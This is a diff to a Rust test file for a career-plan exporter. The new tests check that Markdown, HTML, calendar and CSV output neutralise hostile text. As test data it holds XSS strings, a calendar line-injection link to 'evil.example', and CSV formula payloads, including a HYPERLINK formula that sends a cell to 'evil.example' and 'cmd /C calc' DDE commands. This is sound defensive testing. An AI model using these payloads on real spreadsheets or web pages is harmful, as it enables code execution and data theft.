@@ -61,7 +61,7 @@ fn the_markdown_report_has_every_section_with_the_models_numbers() {
         // Budgeting: level 2 since 31 Jul 2026; the next role needs 3.
         "| Budgeting | Operations | 2 (novice) | 3 (practising) by 31 Mar 2027 | 3 (practising) | 1 level to go |",
         "| Curriculum design | Teaching | 4 (proficient) | 4 (proficient) by 31 Mar 2027 | 4 (proficient) | met |",
-        "- [x] Finish the review course (done 25 Sep 2026): [All twelve modules complete](<https://learning.example.org/certificates/npd-review-2026>)",
+        "- [x] Finish the review course (done 25 Sep 2026): [All twelve modules complete](https://learning.example.org/certificates/npd-review-2026)",
         "- [ ] Sit the certification exam (due 11 Dec 2026)",
         "Learning \u{b7} Active \u{b7} due 18 Dec 2026  ",
         "- Milestone done on 11 Sep 2026: Build a new-graduate retention dashboard (Get fluent with program evaluation data).",
@@ -107,11 +107,29 @@ fn markdown_shows_plan_text_as_typed() {
     );
 }
 
+/// A text cell of the CSV as it was typed: the README's rule, the other
+/// way. A `'` was put before a text that starts with `=`, `+`, `-`, `@`, a
+/// tab or a carriage return (a spreadsheet would run it as a formula), or
+/// with `'` followed by such a text.
+fn text_of(cell: &str) -> &str {
+    fn quoted(text: &str) -> bool {
+        text.starts_with(['=', '+', '-', '@', '\t', '\r'])
+            || text.strip_prefix('\'').is_some_and(quoted)
+    }
+    cell.strip_prefix('\'')
+        .filter(|rest| quoted(rest))
+        .unwrap_or(cell)
+}
+
 #[test]
 fn the_csv_reads_back_as_the_same_entries_in_date_order() {
     let mut plan = sample();
     plan.log[0].text = "Line one,\nline \"two\"; caf\u{e9}".into();
     plan.log[0].remembered_why = true;
+    plan.log[1].text = "=1+1 stays text".into();
+    plan.log[2].text = "'=1+1 was typed with its quote".into();
+    plan.log[3].text = "'Tis the season".into();
+    plan.skills[0].name = "-ish".into();
     let text = exported(&plan, Format::Csv, &Options::default());
     assert!(
         text.starts_with("Date,Minutes,Kind,Text,Skills,Goals,People,Energy,Remembered why\r\n")
@@ -123,7 +141,8 @@ fn the_csv_reads_back_as_the_same_entries_in_date_order() {
     assert_eq!(rows.len(), entries.len());
     for (row, e) in rows.iter().zip(entries) {
         let names = |cell: &str| -> Vec<String> {
-            cell.split("; ")
+            text_of(cell)
+                .split("; ")
                 .filter(|s| !s.is_empty())
                 .map(String::from)
                 .collect()
@@ -146,7 +165,7 @@ fn the_csv_reads_back_as_the_same_entries_in_date_order() {
         assert_eq!(&row[0], e.date.to_string());
         assert_eq!(row[1].parse::<u32>().expect("minutes"), e.minutes);
         assert_eq!(&row[2], e.kind.label());
-        assert_eq!(&row[3], e.text);
+        assert_eq!(text_of(&row[3]), e.text);
         assert_eq!(names(&row[4]), skills);
         assert_eq!(names(&row[5]), goals);
         assert_eq!(names(&row[6]), people);
@@ -350,7 +369,7 @@ Needs 3 (practising); at 0 (none) on 31 Mar 2026.
 
 ## Other achievements
 
-- 20 Mar 2026: Milestone done: Archive old articles (goal: Tidy the knowledge base): [evidence](<https://wiki.example.org/archive>)
+- 20 Mar 2026: Milestone done: Archive old articles (goal: Tidy the knowledge base): [evidence](https://wiki.example.org/archive)
 - 31 Mar 2026: Beyond my duties: Fixed the printer for everyone (20 min)
 
 ## Required skills with no evidence in this period
@@ -474,4 +493,251 @@ fn an_empty_plan_exports_in_every_format() {
     }
     let html = exported(&plan, Format::Html, &Options::default());
     assert!(!html.contains("<svg"), "no chart without numbers");
+}
+
+/// What a hostile plan puts in every text: markup, a script, a link to a
+/// script, a table's pipe, a heading on a new line and an entity.
+const HOSTILE: &str = "<img src=x onerror=alert(1)> [a](javascript:x) ![i](x) | x\n# heading\r\n<script>alert(2)</script> &lt;b&gt; *e* `c` \\";
+
+/// The sample with `HOSTILE` in every text a person types, and links that
+/// are not safe to follow.
+fn hostile_plan() -> Plan {
+    let mut plan = sample();
+    let h = |what: &str| format!("{what} {HOSTILE}");
+    plan.owner = h("owner");
+    plan.purpose = vec![h("why"), format!("- {HOSTILE}")];
+    plan.level_names = stepstone::model::LevelNames(
+        (0..6)
+            .map(|l| format!("<img src=x{l}> |{l}| [l](javascript:x)"))
+            .collect(),
+    );
+    for r in &mut plan.roles {
+        r.title = h("role");
+        r.organisation = h("org");
+    }
+    for s in &mut plan.skills {
+        s.name = format!("skill {} {HOSTILE}", s.id);
+        s.category = h("category");
+        for c in &mut s.history {
+            c.evidence = h("level evidence");
+        }
+    }
+    for g in &mut plan.goals {
+        g.title = h("goal");
+        g.why = h("goal why");
+        for (i, m) in g.milestones.iter_mut().enumerate() {
+            m.title = h("milestone");
+            m.evidence = format!("evidence {HOSTILE}\\");
+            m.link = match i % 3 {
+                0 => "javascript:alert(1)".into(),
+                1 => "https://x.example/\r\nATTACH:https://evil.example/".into(),
+                _ => "https://x.example/a (b) <c> \\".into(),
+            };
+        }
+    }
+    for p in &mut plan.people {
+        p.name = h("person");
+    }
+    for e in &mut plan.log {
+        e.text = h("log");
+    }
+    plan
+}
+
+/// The link targets a Markdown renderer would follow in `md`: each `](`
+/// whose `]` is not escaped by a backslash, up to the closing `)`.
+fn live_links(md: &str) -> Vec<&str> {
+    md.match_indices("](")
+        .filter(|(at, _)| md[..*at].chars().rev().take_while(|c| *c == '\\').count() % 2 == 0)
+        .map(|(at, _)| {
+            let rest = &md[at + 2..];
+            &rest[..rest.find(')').unwrap_or(rest.len())]
+        })
+        .collect()
+}
+
+#[test]
+fn hostile_plan_text_is_inert_in_markdown_and_the_achievements() {
+    let plan = hostile_plan();
+    let md = exported(&plan, Format::Md, &Options::default());
+    let brag = exported(&plan, Format::Brag, &Options::default());
+    for (what, text) in [("md", &md), ("brag", &brag)] {
+        assert!(!text.contains('<'), "{what}: raw markup in\n{text}");
+        assert!(!text.contains('\r'), "{what}");
+        let links = live_links(text);
+        assert!(!links.is_empty(), "{what}: safe links are still links");
+        for link in links {
+            assert!(link.starts_with("https://x.example/"), "{what}: {link:?}");
+            assert!(!link.contains([' ', '<', '>', '(', '\\']), "{link:?}");
+        }
+        for line in text.lines() {
+            assert!(!line.starts_with("# heading"), "{what}: {line:?}");
+            assert!(
+                !line.starts_with("> - "),
+                "{what}: a list in the why: {line:?}"
+            );
+        }
+        // Shown as typed: the entity as written, the markup as text.
+        assert!(text.contains("&amp;lt;b&amp;gt;"), "{what}");
+        assert!(
+            text.contains("&lt;img src=x onerror=alert(1)&gt;"),
+            "{what}"
+        );
+    }
+    let rows: Vec<&str> = md.lines().filter(|l| l.starts_with('|')).collect();
+    assert_eq!(rows.len(), plan.skills.len() + 2);
+    for row in rows {
+        assert_eq!(cells(row).len(), 6, "{row}");
+    }
+    assert!(
+        md.contains("&lt;img src=x3&gt; \\|3\\| \\[l\\](javascript:x)"),
+        "{md}"
+    );
+    assert!(
+        brag.contains("&lt;img src=x"),
+        "level names are in the achievements"
+    );
+}
+
+#[test]
+fn hostile_plan_text_is_inert_in_html() {
+    let html = exported(&hostile_plan(), Format::Html, &Options::default());
+    for raw in ["<img", "<script", "ATTACH", "\r"] {
+        assert!(!html.contains(raw), "{raw:?} in the HTML");
+    }
+    let hrefs: Vec<&str> = html
+        .split("href=\"")
+        .skip(1)
+        .map(|rest| &rest[..rest.find('"').unwrap_or(rest.len())])
+        .collect();
+    assert!(!hrefs.is_empty());
+    for href in hrefs {
+        assert_eq!(href, "https://x.example/a (b) &lt;c&gt; \\");
+    }
+    assert!(html.contains("&lt;img src=x onerror=alert(1)&gt; [a](javascript:x)"));
+    assert!(html.contains("&lt;img src=x3&gt; |3|"), "level names");
+}
+
+#[test]
+fn no_plan_text_can_add_a_line_to_the_calendar() {
+    let plan = hostile_plan();
+    let text = exported(&plan, Format::Ics, &Options::default());
+    let mut parser = ical::IcalParser::new(std::io::BufReader::new(text.as_bytes()));
+    let calendar = parser.next().expect("one calendar").expect("parses");
+    assert!(parser.next().is_none(), "only one calendar");
+    let names = |props: &[ical::property::Property]| -> Vec<String> {
+        props.iter().map(|p| p.name.clone()).collect()
+    };
+    assert_eq!(
+        names(&calendar.properties),
+        [
+            "VERSION",
+            "PRODID",
+            "CALSCALE",
+            "METHOD",
+            "NAME",
+            "X-WR-CALNAME"
+        ]
+    );
+    let dated = plan
+        .goals
+        .iter()
+        .flat_map(|g| &g.milestones)
+        .filter(|m| m.done.or(m.due).is_some())
+        .count()
+        + plan.goals.iter().filter(|g| g.due.is_some()).count();
+    assert_eq!(calendar.events.len(), dated);
+    for e in &calendar.events {
+        let mut props = names(&e.properties);
+        props.sort();
+        // Only the safe link, as one value.
+        if let Some(url) = e.properties.iter().find(|p| p.name == "URL") {
+            assert_eq!(
+                url.value.as_deref(),
+                Some("https://x.example/a%20(b)%20<c>%20\\")
+            );
+            props.retain(|p| p != "URL");
+        }
+        let expected = [
+            "DESCRIPTION",
+            "DTEND",
+            "DTSTAMP",
+            "DTSTART",
+            "SUMMARY",
+            "TRANSP",
+            "UID",
+        ];
+        assert_eq!(props, expected, "{e:?}");
+    }
+    for line in text.split("\r\n") {
+        assert!(!line.contains(['\r', '\n']), "{line:?}");
+    }
+}
+
+#[test]
+fn a_calendar_of_a_four_megabyte_title_and_link_is_written_at_once() {
+    let mut plan = sample();
+    let title = "Read \u{e9}\u{1f4c5}, again; ".repeat(4 << 20 >> 5);
+    let link = format!("https://x.example/{}", "a".repeat(4 << 20));
+    plan.goals[0].milestones[0].title = title.clone();
+    plan.goals[0].milestones[0].link = link.clone();
+    let start = std::time::Instant::now();
+    let text = exported(&plan, Format::Ics, &Options::default());
+    let took = start.elapsed();
+    assert!(took < std::time::Duration::from_secs(5), "took {took:?}");
+    let events = ics_events(&text);
+    let event = events
+        .iter()
+        .find(|e| property(e, "UID").starts_with("milestone-1."))
+        .expect("milestone 1");
+    assert_eq!(property(event, "URL"), link);
+    assert_eq!(
+        property(event, "SUMMARY")
+            .replace("\\,", ",")
+            .replace("\\;", ";"),
+        format!("Milestone done: {}", title.trim())
+    );
+    for line in text.split("\r\n") {
+        assert!(line.len() <= 75, "{} octets", line.len());
+    }
+}
+
+#[test]
+fn csv_cells_never_start_a_formula() {
+    let mut plan = sample();
+    let formulas = [
+        "=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")",
+        "+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+    ];
+    for (e, f) in plan.log.iter_mut().zip(formulas) {
+        e.text = f.into();
+    }
+    plan.skills[0].name = "=1+1".into();
+    plan.goals[0].title = "-1+1".into();
+    plan.people[0].name = "@me".into();
+    let text = exported(&plan, Format::Csv, &Options::default());
+    let mut reader = csv::Reader::from_reader(text.as_bytes());
+    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("a record")).collect();
+    let mut seen = Vec::new();
+    for row in &rows {
+        for cell in row {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "a live formula: {cell:?}"
+            );
+            if cell.starts_with('\'') {
+                seen.push(cell.to_string());
+            }
+        }
+    }
+    for f in formulas {
+        assert!(seen.contains(&format!("'{f}")), "{f:?} in {seen:?}");
+    }
+    assert!(seen.iter().any(|c| c.starts_with("'=1+1")));
+    assert!(seen.iter().any(|c| c.starts_with("'-1+1")));
+    assert!(seen.iter().any(|c| c.starts_with("'@me")));
 }
